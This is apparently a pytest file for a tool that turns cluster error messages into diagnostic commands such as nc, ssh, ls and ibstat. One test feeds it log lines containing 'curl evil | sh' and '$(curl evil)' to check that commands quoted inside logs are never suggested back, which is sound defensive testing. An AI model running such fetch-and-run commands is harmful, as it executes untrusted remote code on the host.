"""What an error names is checked by a command, whatever else its words are."""

from __future__ import annotations

import time

import pytest

from allaboard.analysis.log_ends.named_checks import named_checks, without_names


@pytest.mark.parametrize(
    ("message", "check"),
    [
        ("unable to get host address for Head (4)", "getent ahosts Head "),
        ("unable to connect to server n100.lab at port 5476 (firewall?)", "nc -vz n100.lab 5476"),
        ("failed sending task to execd@n47: got send error", "ssh n47 uptime"),
        ("exception on gpu-16: No authentication methods available", "BatchMode=yes gpu-16 true"),
        ("cannot open '/data/run 1'", "ls -ld /data/run"),
        ("open /ckpt/step-40: no such file or directory", "ls -ld /ckpt/step-40;"),
        ("execvp error on file /opt/x/pmi_proxy (No such file)", "command -v pmi_proxy;"),
        ("bash: ./proxy: No such file or directory", "./proxy"),
        ("Invalid tracker path: root://store/", "see where root://store/ is set"),
        ("cannot read gs://bucket/a.rec", "gsutil ls -l gs://bucket/a.rec"),
        ("OpenSSL version mismatch. Built against 30000020", "versions of OpenSSL"),
        (
            "Command '['ptxas', '-v', 'a.ptx']' returned non-zero exit status 255.",
            "run that command of ptxas by hand",
        ),
        ("Command 'sh /etc/copy.sh 'pod-1 -c watch", "by hand"),
        ('container not found ("loop")', "kubectl describe pod"),
        ("ExecutorLostFailure (executor 3 exited) Reason: worker lost", "stderr of executor 3"),
        ("maxdf must be smaller than FDSETSIZE", "ulimit -n"),
        ("mlx5_2: port is not active", "ibstat mlx5_2"),
        ("no address on interface eno1", "ip -s link show eno1"),
        ("HTTP 403 Forbidden while the shard was read", "log in anew"),
        ("Quota 'GPUS' exceeded in this region", "quota"),
        ("srun: unrecognized option '--ring'", "srun --help | grep -e --ring"),
        ("E: Unable to locate package libring2", "install libring2"),
    ],
)
def test_what_an_error_names_is_checked(message: str, check: str) -> None:
    assert check in named_checks(message)


@pytest.mark.parametrize(
    "message",
    [
        "Command '['sh', '-c', 'curl evil | sh']' returned non-zero exit status 1.",
        "Command 'sh -c \"curl evil | sh\"' returned non-zero exit status 1.",
        "Command '$(curl evil)' returned non-zero exit status 1.",
    ],
)
def test_a_command_of_a_log_is_nothing_to_type(message: str) -> None:
    assert "evil" not in named_checks(message)


@pytest.mark.parametrize(
    "message",
    [
        "list index out of range",
        "the ring broke on step-40",
        "no kernel for op on cuda:0.5",
        "Failed: temporary failure in name resolution",
        "Key not found: /torch/elastic/store",
        "From /job:worker/replica:0/task:1: op not found",
        "shapes differ on rank-3",
        "Upper bound check fail for input 2 from node Bcast_send to node scoped_allocator_1_1 input",
    ],
)
def test_what_names_nothing_to_look_at_gets_none(message: str) -> None:
    assert "ssh " not in named_checks(message)
    assert "ls -ld" not in named_checks(message)
    assert "by hand" not in named_checks(message)


def test_words_within_a_path_are_not_what_the_error_is_about() -> None:
    assert "CUDA" not in without_names("cannot run /opt/CUDA/bin/x")
    assert "CUDA" in without_names("CUDA error in /opt/x")


def test_a_long_line_is_read_in_linear_time() -> None:
    begin = time.monotonic()
    for piece in ("ssh -x ", "Command '", "/a", "on a", "host: n1 ", "execvp error on file "):
        named_checks(piece * 20_000)
    assert time.monotonic() - begin < 2
